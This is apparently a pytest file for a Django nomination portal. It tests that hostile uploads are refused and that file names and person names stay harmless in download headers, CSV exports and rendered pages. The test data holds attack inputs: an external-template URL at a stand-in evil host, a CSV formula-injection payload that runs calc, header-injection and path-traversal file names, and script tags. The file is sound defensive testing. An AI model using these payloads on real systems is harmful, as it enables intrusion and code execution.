"""Uploads that would attack whoever opens them are refused; names of files and people harm no header and no sheet."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from portal.core import files
from portal.core.file_kinds import DOCUMENTS, FileKind, FileRefused
from portal.core.inspection import inspect
from tests.factories.directory import liaison_officer, project_officer
from tests.factories.nominations import CandidateFactory, NominationFactory, pdf_bytes
from tests.factories.programs import ProjectFactory

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE, LINK = f"{RELATION}/attachedTemplate", f"{RELATION}/hyperlink"


def docx(relations: bytes = b"", **parts: bytes) -> SimpleUploadedFile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        if relations:
            archive.writestr("word/_rels/settings.xml.rels", relations)
        for name, content in parts.items():
            archive.writestr(f"word/{name}", content)
    return SimpleUploadedFile("paper.docx", buffer.getvalue())


def relations(kind: str, encoding: str = "utf-8") -> bytes:
    row = f'<Relationship Id="r1" Type="{kind}" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    return f'<?xml version="1.0" encoding="{encoding}"?><Relationships>{row}</Relationships>'.encode(encoding)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_word_document_that_loads_a_template_from_elsewhere_is_refused(encoding: str) -> None:
    with pytest.raises(FileRefused) as refusal:
        inspect(docx(relations(TEMPLATE, encoding)), kinds=DOCUMENTS)
    assert refusal.value.code == "active_document"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_word_document_with_entities_in_its_relations_is_refused(encoding: str) -> None:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY a "b">]><Relationships>&a;</Relationships>'
    )
    with pytest.raises(FileRefused):
        inspect(docx(text.encode(encoding)), kinds=DOCUMENTS)


def test_a_word_document_with_a_web_page_inside_is_refused() -> None:
    with pytest.raises(FileRefused):
        inspect(docx(**{"afchunk.mht": b"<script>"}), kinds=DOCUMENTS)


def test_a_word_document_with_endless_relations_is_refused_before_they_are_read() -> None:
    endless = b"<Relationships>" + b"<a/>" * 300_000 + b"</Relationships>"
    with pytest.raises(FileRefused) as refusal:
        inspect(docx(endless), kinds=DOCUMENTS)
    assert refusal.value.code == "too_large_unpacked"


def test_a_pdf_nested_to_keep_its_reader_busy_is_refused_before_it_is_read() -> None:
    nested = pdf_bytes().replace(b"endobj", b"endobj\n90 0 obj\n" + b"<</A" * 200_000 + b">>" * 200_000 + b"endobj", 1)
    with pytest.raises(FileRefused) as refusal:
        inspect(SimpleUploadedFile("scan.pdf", nested), kinds=DOCUMENTS)
    assert refusal.value.code == "too_many_objects"


def test_a_word_document_with_links_is_taken() -> None:
    assert inspect(docx(relations(LINK)), kinds=DOCUMENTS) is FileKind.DOCX


@pytest.mark.parametrize("content", [b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", b"<html><script>1</script>",
                                     b"GIF89a/*<script>*/", b"PK\x03\x04broken", b"\x89PNG\r\n\x1a\n" + b"0" * 64])  # fmt: skip
def test_what_a_browser_would_run_is_no_document(content: bytes) -> None:
    for name in ("x.pdf", "x.jpg", "x.svg", "x.html"):
        with pytest.raises(FileRefused):
            inspect(SimpleUploadedFile(name, content), kinds=DOCUMENTS)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name", ["a\r\nSet-Cookie: x=1.pdf", '"; filename="evil.html', "../../etc/passwd", "x‮fdp.exe.pdf"]
)
def test_the_name_of_a_file_adds_no_header_and_leads_nowhere(name: str) -> None:
    nomination = NominationFactory()
    document = nomination.documents.get()
    document.file = files.store_bytes(b"%PDF-", name=name, content_type="application/pdf", by=None)
    document.save()
    client = Client()
    client.force_login(liaison_officer("IN"))
    response = client.get(f"/nominations/documents/{document.pk}/file/")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert (response.cookies.get("x"), "\r" in response["Content-Disposition"]) == (None, False)
    assert "/etc/" not in response["Content-Disposition"]
    assert {response[h] for h in ("X-Content-Type-Options", "Content-Security-Policy", "Cache-Control")} == {
        "nosniff", "default-src 'none'; sandbox", "private, no-store",
    }  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_no_name_is_a_formula_in_the_table_that_is_downloaded(start: str) -> None:
    NominationFactory(candidate=CandidateFactory(given_names=f"{start}cmd|' /C calc'!A0"))
    client = Client()
    client.force_login(project_officer())
    body = b"".join(client.get("/nominations/export.csv").streaming_content).decode()
    assert f"'{start}cmd" in body


@pytest.mark.django_db
def test_the_draft_of_a_notification_is_kept_by_no_cache() -> None:
    project = ProjectFactory()
    client = Client()
    client.force_login(project_officer())
    kept = client.get(f"/projects/{project.slug}/notification.pdf")["Cache-Control"]
    assert {word.strip() for word in kept.split(",")} >= {"private", "no-store"}


@pytest.mark.django_db
def test_names_are_text_on_every_page_that_shows_them() -> None:
    script = "<script>alert(1)</script>"
    candidate = CandidateFactory(family_name=script, given_names=script, own_script_name=script, position=script,
                                 organization=script, experience=script, address=script)  # fmt: skip
    nomination = NominationFactory(candidate=candidate, state="screened", motivation=script)
    slug = nomination.project.slug
    paths = ["/nominations/", f"/nominations/{nomination.pk}/", f"/selection/{slug}/", "/search/?q=<script>alert(1)",
             f"/selection/{slug}/release/", f"/nominations/{nomination.pk}/screening/", "/desk/"]  # fmt: skip
    client = Client()
    client.force_login(project_officer())
    shown = {path: client.get(path).content.decode() for path in paths}
    assert [path for path, text in shown.items() if script in text] == []
    assert "&lt;script&gt;" in shown["/nominations/"]
